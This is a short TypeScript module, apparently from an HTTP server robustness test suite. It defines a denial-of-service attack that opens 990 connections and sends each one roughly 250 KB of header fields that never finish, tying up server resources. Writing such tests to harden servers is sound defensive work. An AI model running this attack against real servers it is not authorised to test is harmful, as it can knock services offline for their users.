import { type Attack } from '../attack.ts';
import { openMany, sleep } from '../hostile.ts';

const CONNECTIONS = 990;
const FIELDS = 250;

export const unfinishedHeads: Attack = {
  name: 'unfinished-heads',
  what: '990 connections, each with 250 KB of a head that never ends',
  run: async (target) => {
    const sockets = await openMany(target, CONNECTIONS);
    const fields = Array.from({ length: FIELDS }, (_, i) => `X-${i}: ${'x'.repeat(990)}\r\n`).join('');
    for (const socket of sockets) socket.write(`GET / HTTP/1.1\r\nHost: x\r\n${fields}`);
    await sleep(10_000);
  },
};
